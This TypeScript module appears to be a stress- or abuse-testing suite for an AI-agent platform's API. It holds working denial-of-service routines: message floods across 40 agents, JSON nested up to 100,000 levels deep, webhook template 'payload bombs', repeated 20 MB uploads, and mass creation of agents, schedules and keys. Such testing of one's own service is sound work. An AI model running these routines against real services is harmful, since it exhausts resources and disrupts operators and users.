import { type Attack, makeAgent, repeat } from './attack.js';

const UPLOAD_BYTES = 20_000_000;

/** 40 agents are sent as much as they take. */
export const messageFlood: Attack = async (target) => {
  const agents = await Promise.all(Array.from({ length: 40 }, (_, n) => makeAgent(target, `flooded-${n}`)));
  const known = agents.filter((agent) => agent !== undefined);
  if (known.length === 0) return;
  await repeat(target, { callers: 32, most: 20_000 }, async (n) => {
    const content = n % 10 === 0 ? 'x'.repeat(90_000) : `flood ${n}`;
    const path = `/v1/agent/${known[n % known.length]}/messages`;
    return (await target.api('POST', path, { content, conversation_id: `c${n % 50}` })).status;
  });
};

export const deepJson: Attack = async (target) => {
  const agent = await makeAgent(target, 'deep');
  const nested = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
  const bodies = [3_000, 100_000].map((depth) => `{"content":"x","metadata":${nested(depth)}}`);
  const headers = { 'content-type': 'application/json' };
  await repeat(target, { callers: 4, most: 1_000 }, async (n) => {
    if (n % 2 === 0) return (await target.api('POST', '/auth/login', nested(50_000), headers)).status;
    return (await target.api('POST', `/v1/agent/${agent}/messages`, bodies[n % 4 === 1 ? 0 : 1], headers)).status;
  });
};

/** A template of as many payloads as are taken, each filled with a megabyte. */
export const payloadBomb: Attack = async (target) => {
  const agent = await makeAgent(target, 'triggered');
  const made: { id: string; webhook_secret: string }[] = [];
  for (const places of [5_000, 500, 50, 20]) {
    const body = { name: `bomb-${places}`, message_template: '{{payload}}'.repeat(places) };
    const answer = await target.api<{ id: string; webhook_secret: string }>(
      'POST',
      `/v1/agent/${agent}/triggers`,
      body,
    );
    target.tell(`template of ${places}: ${answer.status}`);
    if (answer.status === 201) made.push(answer.body);
  }
  if (made.length === 0) return;
  const payload = { text: 'x'.repeat(900_000) };
  await repeat(target, { callers: 4, most: 500 }, async (n) => {
    const { id, webhook_secret: secret } = made[n % made.length]!;
    const headers = { 'x-webhook-secret': secret };
    return (await target.api('POST', `/v1/webhooks/triggers/${id}`, payload, headers)).status;
  });
};

export const largeUploads: Attack = async (target) => {
  const agent = await makeAgent(target, 'uploads');
  const bytes = new Uint8Array(UPLOAD_BYTES);
  const headers = { 'content-type': 'application/octet-stream' };
  await repeat(target, { callers: 6, most: 200 }, async (n) => {
    const path = `/v1/agent/${agent}/filesystem/files/f${n % 6}?overwrite=true`;
    return (await target.api('POST', path, bytes, headers)).status;
  });
};

export const massCreation: Attack = async (target) => {
  const agent = await makeAgent(target, 'many');
  const schedule = { name: 's', cron_expression: '* * * * *', message_template: 'x', timezone: 'UTC' };
  await repeat(target, { callers: 8, most: 5_000 }, async (n) => {
    if (n % 3 === 0) return (await target.api('POST', '/v1/agent/create', { name: `m${n}` })).status;
    if (n % 3 === 1) return (await target.api('POST', `/v1/agent/${agent}/schedules`, schedule)).status;
    return (await target.api('POST', '/auth/platform_keys', { name: `k${n}` })).status;
  });
};
